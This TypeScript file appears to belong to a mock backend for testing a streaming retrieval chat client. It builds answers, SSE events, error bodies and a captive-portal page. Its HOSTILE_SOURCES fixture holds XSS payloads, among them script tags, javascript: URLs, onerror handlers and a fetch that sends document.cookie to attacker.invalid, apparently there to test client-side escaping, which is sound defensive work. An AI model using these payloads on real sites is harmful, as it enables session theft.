// What the server says, independent of how it is sent: the answer for a request (retrieval, `answer=` or the
// oversized scenarios), the normal endpoint's JSON body, the stream's event list, and error bodies.
import { STATUS_CODES } from 'node:http';
import { randomUUID } from 'node:crypto';
import { splitIntoTokens } from './latency';
import type { RetrievedSource, Retriever } from './retrieval';
import type { NonAnswerKind, Scenario } from './scenarios';
import type { OutgoingEvent } from './sse';

export const MODEL_USED = 'tejarat-extractive-1';
const OVERSIZED_EVENT_CHARS = 1.5 * 1024 * 1024;
const OVERSIZED_ANSWER_CHUNK_CHARS = 64 * 1024;
const OVERSIZED_ANSWER_CHUNKS = (9 * 1024 * 1024) / OVERSIZED_ANSWER_CHUNK_CHARS;

/** The parts of a request body the server uses. */
export interface QueryBody {
  query: string;
  conversationId?: string;
  language?: string;
}

export interface PreparedAnswer {
  conversationId: string;
  messageId: string;
  text: string;
  /** Chunks to stream; joined they are `text` (except for `oversized-event`, whose first chunk is extra). */
  chunks: string[];
  sources: RetrievedSource[];
  startedAt: number;
}

const HOSTILE_SOURCES: RetrievedSource[] = [
  {
    title: '<script>alert(1)</script>Release notes',
    url: 'javascript:alert(1)',
    snippet: '<img src=x onerror=alert(1)> click to see more',
    score: 0.5,
    page: 1,
  },
  {
    title: '<img src=x onerror=alert(1)>',
    url: 'data:text/html,<script>alert(document.domain)</script>',
    snippet: '<script>fetch("https://attacker.invalid/?c=" + document.cookie)</script>',
    score: 0.4,
    page: 2,
  },
];

/** Reads `{query, conversation_id?, language?}`; anything else is a human-readable reason for a 400. */
export function parseQueryBody(raw: string): QueryBody | string {
  if (raw.trim() === '') return 'the request body is empty; send JSON {"query": "..."}';
  let body: unknown;
  try {
    body = JSON.parse(raw);
  } catch {
    return 'the request body is not valid JSON';
  }
  if (typeof body !== 'object' || body === null || Array.isArray(body)) return 'the request body must be a JSON object';
  const { query, conversation_id: conversationId, language } = body as Record<string, unknown>;
  if (typeof query !== 'string' || query.trim() === '') return '"query" must be a non-empty string';
  if (conversationId !== undefined && conversationId !== null && typeof conversationId !== 'string') {
    return '"conversation_id" must be a string';
  }
  if (language !== undefined && language !== null && typeof language !== 'string') return '"language" must be a string';
  return {
    query,
    ...(typeof conversationId === 'string' && conversationId !== '' ? { conversationId } : {}),
    ...(typeof language === 'string' && language !== '' ? { language } : {}),
  };
}

const graphemes = new Intl.Segmenter(undefined, { granularity: 'grapheme' });

/**
 * Splits text into chunks of about `chunkChars` code points. A chunk ends on a grapheme boundary, so a surrogate
 * pair, or a base letter and its combining marks (Persian harakat, ZWNJ), never straddle two chunks; a single
 * grapheme longer than `chunkChars` becomes a chunk of its own.
 */
export function splitIntoChunks(text: string, chunkChars: number): string[] {
  const chunks: string[] = [];
  let current = '';
  let currentCodePoints = 0;
  for (const { segment } of graphemes.segment(text)) {
    const size = [...segment].length;
    if (currentCodePoints > 0 && currentCodePoints + size > chunkChars) {
      chunks.push(current);
      current = '';
      currentCodePoints = 0;
    }
    current += segment;
    currentCodePoints += size;
  }
  if (current !== '') chunks.push(current);
  return chunks;
}

/** Filler text of exactly `length` ASCII characters (one byte each), readable in a debugger. */
function filler(length: number): string {
  const sentence = 'Tejarat Chat streams long answers. ';
  return sentence.repeat(Math.ceil(length / sentence.length)).slice(0, length);
}

/** `chunking`: code points per chunk, or one token per chunk (what a streaming model sends). */
export function prepareAnswer(
  retriever: Retriever,
  body: QueryBody,
  scenario: Scenario,
  chunking: number | 'tokens',
): PreparedAnswer {
  const startedAt = Date.now();
  const retrieved = retriever.answer(body.query, body.language);
  let text = scenario.emptyAnswer ? '' : (scenario.answer ?? retrieved.text);
  let chunks: string[];
  if (scenario.oversizedAnswer) {
    chunks = Array.from({ length: OVERSIZED_ANSWER_CHUNKS }, () => filler(OVERSIZED_ANSWER_CHUNK_CHARS));
    text = chunks.join('');
  } else {
    const chunkChars = scenario.chunkChars ?? chunking;
    chunks = chunkChars === 'tokens' ? splitIntoTokens(text) : splitIntoChunks(text, chunkChars);
    if (scenario.oversizedEvent) chunks.unshift(filler(OVERSIZED_EVENT_CHARS));
  }
  return {
    conversationId: body.conversationId ?? randomUUID(),
    messageId: randomUUID(),
    text,
    chunks,
    sources: withoutUrls(scenario.hostileSources ? [...retrieved.sources, ...HOSTILE_SOURCES] : retrieved.sources, scenario),
    startedAt,
  };
}

function withoutUrls(sources: RetrievedSource[], scenario: Scenario): RetrievedSource[] {
  return scenario.sourcesWithoutUrl ? sources.map(({ url: _url, ...rest }) => rest) : sources;
}

/** A rough token count (words and punctuation runs), stable for the same text. */
function countTokens(text: string): number {
  return text.match(/[\p{L}\p{N}\p{M}\u200C]+|[^\s\p{L}\p{N}\p{M}\u200C]+/gu)?.length ?? 0;
}

export function answerMetadata(answer: PreparedAnswer): Record<string, unknown> {
  return {
    tokens: countTokens(answer.text),
    processing_time_ms: Date.now() - answer.startedAt,
    model_used: MODEL_USED,
    cached: false,
  };
}

function altShapeSource(source: RetrievedSource, withPage: boolean): Record<string, unknown> {
  return { name: source.title, link: source.url, content: source.snippet, ...(withPage ? { page: source.page } : {}) };
}

/** The normal endpoint's body (also the stream endpoint's under `json-on-stream`). */
export function normalAnswerBody(answer: PreparedAnswer, scenario: Scenario): Record<string, unknown> {
  const ids = { conversation_id: answer.conversationId, message_id: answer.messageId };
  if (scenario.altShape) {
    return {
      response: answer.text,
      sources: answer.sources.map((source) => altShapeSource(source, false)),
      ...ids,
      ...answerMetadata(answer),
    };
  }
  return { answer: answer.text, sources: answer.sources, ...ids, metadata: answerMetadata(answer) };
}

/**
 * The stream's events in order, numbered from 1 (the numbers become `id:` fields under `ids`). The `end` event's
 * metadata is filled in when it is written, so its processing time is real.
 */
export function streamEvents(answer: PreparedAnswer, scenario: Scenario): OutgoingEvent[] {
  const events: Omit<OutgoingEvent, 'id'>[] = [
    { type: 'start', data: { conversation_id: answer.conversationId, message_id: answer.messageId } },
  ];
  if (scenario.unknownEvents) events.push({ type: 'progress', data: { stage: 'retrieval', documents: 12 } });
  const sources = scenario.altShape ? answer.sources.map((source) => altShapeSource(source, true)) : answer.sources;
  if (scenario.sourcesFirst) events.push({ type: 'sources', data: { sources } });
  answer.chunks.forEach((content, index) => {
    events.push({ type: 'chunk', data: scenario.unknownEvents ? { content, index, final: false } : { content } });
    if (scenario.unknownEvents && index % 3 === 2) {
      events.push({ type: 'progress', data: { stage: 'generation', chunks: index + 1 } });
    }
  });
  if (!scenario.sourcesFirst) events.push({ type: 'sources', data: { sources } });
  events.push({ type: 'end', data: {} });
  return events.map((event, index) => ({ ...event, id: index + 1 }));
}

/** A web page of several KB, like the ones a gateway or a login portal sends in front of a real core. */
export function htmlPage(title: string, message: string): string {
  const padding = '<!-- a padding to disable MSIE and Chrome friendly error page -->\n'.repeat(40);
  return (
    `<!DOCTYPE html>\n<html lang="en">\n<head>\n<meta charset="utf-8">\n<title>${title}</title>\n` +
    '<style>body{font-family:system-ui,sans-serif;margin:4em auto;max-width:40em;color:#333}' +
    'h1{font-weight:400}footer{color:#888;border-top:1px solid #ddd;margin-top:2em;padding-top:1em}</style>\n' +
    `</head>\n<body>\n<h1>${title}</h1>\n<p>${message}</p>\n` +
    `<footer>tejarat-gateway/1.24 · request ${randomUUID()}</footer>\n</body>\n</html>\n${padding}`
  );
}

/** The HTML page a gateway answers a 5xx with. */
export function errorPage(status: number): string {
  return htmlPage(
    `${status} ${STATUS_CODES[status] ?? 'Error'}`,
    'The server encountered a problem and could not complete your request. Please try again in a few minutes. ' +
      'If the problem persists, contact the Tejarat Chat team.',
  );
}

/** JSON bodies for statuses answered as JSON (`{"error": "..."}`). */
export function errorJson(status: number, message?: string): string {
  const defaults: Record<number, string> = {
    401: 'invalid token',
    403: 'forbidden',
    429: 'rate limit exceeded',
  };
  return JSON.stringify({ error: message ?? defaults[status] ?? (STATUS_CODES[status] ?? 'error').toLowerCase() });
}

/** What real cores and gateways put in a 200 that carries no answer, in their own words. */
export function nonAnswerBody(kind: NonAnswerKind): Record<string, unknown> {
  switch (kind) {
    case 'error':
      return { error: 'quota exceeded for this team' };
    case 'detail':
      // A core behind a Persian-speaking team answers in Persian; the client must show these words as they are.
      return { detail: 'سرویس پاسخ‌گویی موقتاً در دسترس نیست؛ چند دقیقهٔ دیگر دوباره تلاش کنید.' };
    case 'message':
      return { message: 'Endpoint request timed out' };
    case 'errors':
      return { errors: [{ message: 'Rate limit reached for requests', code: 'rate_limited' }] };
  }
}

/**
 * The page a captive portal or a single sign-on proxy answers any request with: 200, HTML, a title, a login form
 * and script. It must never reach the user as an answer.
 */
export function signInPage(): string {
  return (
    '<!DOCTYPE html>\n<html lang="en">\n<head>\n<meta charset="utf-8">\n' +
    '<meta name="viewport" content="width=device-width, initial-scale=1">\n' +
    '<title>Sign in · Tejarat Secure Access</title>\n' +
    '<style>body{font-family:system-ui,sans-serif;background:#f3f4f6}form{max-width:22em;margin:6em auto;' +
    'background:#fff;padding:2em;border-radius:8px}label,input,button{display:block;width:100%;margin-top:.5em}</style>\n' +
    '<script>window.__SSO_STATE__ = { relayState: "' +
    randomUUID() +
    '", returnTo: location.href };</script>\n' +
    '</head>\n<body>\n' +
    '<form method="post" action="/sso/login" autocomplete="on">\n' +
    '<h1>Tejarat Secure Access</h1>\n<p>Your session has expired. Sign in to continue to the requested page.</p>\n' +
    '<label for="username">Username</label><input id="username" name="username" autocomplete="username">\n' +
    '<label for="password">Password</label>' +
    '<input id="password" name="password" type="password" autocomplete="current-password">\n' +
    '<input type="hidden" name="RelayState" value="">\n<button type="submit">Sign in</button>\n</form>\n' +
    '<script>document.forms[0].RelayState.value = window.__SSO_STATE__.relayState;' +
    'document.getElementById("username").focus();</script>\n' +
    '</body>\n</html>\n'
  );
}
